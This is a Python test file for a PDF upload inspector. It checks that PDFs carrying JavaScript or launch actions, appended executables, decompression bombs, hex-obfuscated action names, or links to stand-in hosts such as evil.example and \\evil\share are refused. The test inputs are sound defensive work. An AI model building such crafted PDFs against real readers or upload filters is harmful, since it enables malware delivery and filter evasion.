"""Which PDFs are kept, and why others are refused."""

from __future__ import annotations

import os
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Object, Pdf, String

from storage.inspection.inspect import inspect
from tests.made_files import GOOD, pdf, zipped
from tests.unit.active_pdfs import IN_STREAMS, PACKABLE, packed_pdf, script_on_open
from tests.unit.inspection_refusals import ALL, reason


@pytest.mark.parametrize("change", PACKABLE + IN_STREAMS, ids=lambda change: change.__name__)
def test_an_active_pdf_is_refused_wherever_its_action_is(change: Callable[[Pdf], None]) -> None:
    assert reason(pdf(change)) == "script_pdf"


@pytest.mark.parametrize("change", PACKABLE, ids=lambda change: change.__name__)
def test_an_active_pdf_with_object_streams_is_refused(change: Callable[[Pdf], None]) -> None:
    sent = pdf(change, packed=True)
    assert not any(word in sent for word in (b"/JavaScript", b"/Launch", b"/XFA")), "not hidden at all"
    assert reason(sent) == "script_pdf"


def test_a_pdf_that_writes_its_script_in_hexadecimal_is_refused() -> None:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name.PlaceOfSameWidth)

    sent = pdf(change)
    spelled = sent.replace(b"/S /PlaceOfSameWidth", b"/#53 /J#61v#61Script")
    assert spelled != sent and len(spelled) == len(sent)
    assert reason(spelled) == "script_pdf"


def test_links_forms_bookmarks_and_page_jumps_are_fine() -> None:
    def change(document: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://bps.go.id")))
        document.pages[0].Annots = Array([link])
        document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])
        document.Root.AcroForm = Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T=String("JavaScript"))]))
        document.Root.Note = Dictionary(S=Name.Transparency, Text=String("/JS /Launch"))

    assert inspect("formulir.pdf", pdf(change, pages=2), ALL).pages == 2


def test_a_pdf_behind_a_password_is_encrypted_and_one_with_print_rules_is_not() -> None:
    assert reason(pdf(encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))) == "encrypted"
    assert inspect("a.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="rahasia")), ALL).pages == 1
    locked = pdf(script_on_open, encryption=pikepdf.Encryption(user="", owner="rahasia"))
    assert reason(locked) == "script_pdf"


@pytest.mark.parametrize(
    "tail", [b"MZ\x90\0", b"\r\n\0\0PK\x03\x04", b"\n<script>", b"\n\n#!/bin/sh", b"\nMZ\n%%EOF\n"]
)
def test_a_program_behind_a_pdf_is_refused(tail: bytes) -> None:
    assert reason(GOOD["pdf"] + tail) == "program"


def test_a_pdf_that_is_an_archive_too_is_refused() -> None:
    assert reason(GOOD["pdf"] + b"% some words first\n" + zipped({"evil.exe": b"MZ"})) == "program"


def test_a_pdf_with_a_mark_or_blanks_before_it_is_accepted() -> None:
    assert inspect("a.pdf", b"\xef\xbb\xbf\r\n" + GOOD["pdf"], ALL).pages == 3


@pytest.mark.parametrize("content", [b"%PDF-1.7\n", b"%PDF-1.4\n" + os.urandom(2_000), GOOD["pdf"][:80]])
def test_half_a_pdf_is_damaged(content: bytes) -> None:
    assert reason(content) == "damaged"


def test_a_pdf_of_no_pages_is_damaged() -> None:
    assert reason(pdf(pages=0)) == "damaged"
    assert reason(packed_pdf(b"<<>>").replace(b"/Kids[3 0 R]", b"/Kids[9 0 R]")) == "damaged"


def test_a_hand_written_packed_pdf_is_read() -> None:
    assert inspect("a.pdf", packed_pdf(b"<</S/GoTo>>"), ALL).pages == 1
    assert reason(packed_pdf(b"<</S/JavaScript>>")) == "script_pdf"


@pytest.mark.parametrize(
    ("hide", "why"),
    [
        (
            lambda sent: sent.replace(b"startxref\n", b"startxref\n9"),
            "damaged",
        ),  # readable only after rebuilding the table
        (
            lambda sent: sent.replace(b"/Type/XRef", b"/Type/None").replace(b"startxref", b"trailer<</Root 1 0 R>>"),
            "damaged",
        ),
        (lambda sent: sent.replace(b"/First 4", b"/First x"), "damaged"),
        (lambda sent: sent.replace(zlib.compress(b"6 0 <</S/JavaScript>>")[2:8], b"xxxxxx"), "damaged"),
        (lambda _: packed_pdf(b"[" * 3_000 + b"<</S/JavaScript>>" + b"]" * 3_000), "bomb"),
    ],
)
def test_what_we_cannot_read_but_another_reader_might_is_refused(hide: Callable[[bytes], bytes], why: str) -> None:
    sent = packed_pdf(b"<</S/JavaScript>>")
    hidden = hide(sent)
    assert hidden != sent
    assert reason(hidden) in {why, "script_pdf"}


def lzw(_: bytes) -> bytes:
    """Any bytes: they must not be unpacked at all."""
    return bytes(range(256)) * 10


@pytest.mark.parametrize(
    "sent",
    [
        packed_pdf(b"<<" + b" " * 30_000_000 + b">>"),
        packed_pdf(b"[" + b"[] " * 1_100_000 + b"]"),
        packed_pdf(b"", squeeze=lzw, filters=b"[/LZWDecode]"),
        packed_pdf(b"", squeeze=lzw, filters=b"/L#5aWDecode"),
    ],
    ids=["too many bytes", "too many values", "a filter without bounds", "the same in hexadecimal"],
)
def test_a_pdf_that_unpacks_to_very_much_is_a_bomb(sent: bytes) -> None:
    assert len(sent) < 100_000
    assert reason(sent) == "bomb"


@pytest.mark.parametrize(
    "action",
    [
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.ImportData, F=String("a.fdf")),
        Dictionary(S=Name.GoToR, F=String("//evil/share/a.pdf")),
        Dictionary(S=Name.URI, URI=String("file://evil/share/a.pdf")),
        Dictionary(S=Name.URI, URI=String("\\\\evil\\share")),
        Dictionary(S=Name.Thread, F=String("\\\\evil\\share\\a.pdf")),
        Dictionary(S=Name.Rendition, C=Dictionary(Type=Name.Filespec, UF=String("file://evil/share/a.mp4"))),
        Dictionary(Base=String("//evil/share/")),
    ],
)
def test_a_pdf_that_reaches_outside_says_so(action: Dictionary) -> None:
    assert reason(pdf(lambda document: document.Root.__setattr__("OpenAction", action))) == "outside_pdf"


def test_a_pdf_whose_content_is_in_another_file_is_refused() -> None:
    def point_elsewhere(document: Pdf) -> None:
        elsewhere = document.make_stream(b"")
        elsewhere.F = String("https://evil.example/a")
        document.pages[0].Contents = elsewhere

    assert reason(pdf(point_elsewhere)) == "outside_pdf"


def test_an_empty_tree_of_scripts_is_no_script() -> None:
    tree = Dictionary(JavaScript=Dictionary(Names=Array([])), EmbeddedFiles=Dictionary(Names=Array([])))
    assert inspect("a.pdf", pdf(lambda document: document.Root.__setattr__("Names", tree)), ALL).pages == 1


def _with_data(document: Pdf, *contents: bytes) -> None:
    for number, content in enumerate(contents):
        document.attachments[f"{number}.json"] = content


def _with_note(document: Pdf, **packed: Object) -> None:
    """Beside honest data, a file behind an icon on the page; its stream need not say that it is one."""
    _with_data(document, b'{"a": 1}')
    specification = Dictionary(Type=Name.Filespec, F=String("a.json"))
    for key, part in packed.items():
        specification[f"/{key}"] = part
    icon = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=specification)
    document.pages[0].Annots = Array([icon])


@pytest.mark.parametrize(
    "change",
    [
        lambda document: _with_data(document, b"MZ\x90 a program"),
        lambda document: _with_data(document, b'{"a": 1}', b"<script>1</script>"),
        lambda document: _with_data(document, *[b"[]"] * 6),
        lambda document: _with_note(document, EF=Dictionary(F=document.make_stream(b"MZ\x90 a program"))),
        lambda document: _with_note(document, EF=Dictionary(F=Dictionary())),
        lambda document: _with_note(document, EF=Array([document.make_stream(b"[]")])),
        lambda document: _with_note(
            document,
            EF=Dictionary(F=document.make_stream(b"[]")),
            RF=Dictionary(F=Array([String("a.exe"), document.make_stream(b"MZ\x90 a program")])),
        ),
    ],
    ids=["program", "one page of a web site", "too many", "behind an icon", "no stream", "no files", "related file"],
)
def test_a_pdf_that_carries_anything_but_a_little_data_is_refused(change: Callable[[Pdf], None]) -> None:
    assert reason(pdf(change)) == "script_pdf"


def test_a_pdf_may_carry_a_little_data_as_our_letters_do() -> None:
    sent = pdf(lambda document: _with_data(document, *[b'{"a": 1}'] * 5))
    assert inspect("a.pdf", sent, ALL).content == sent
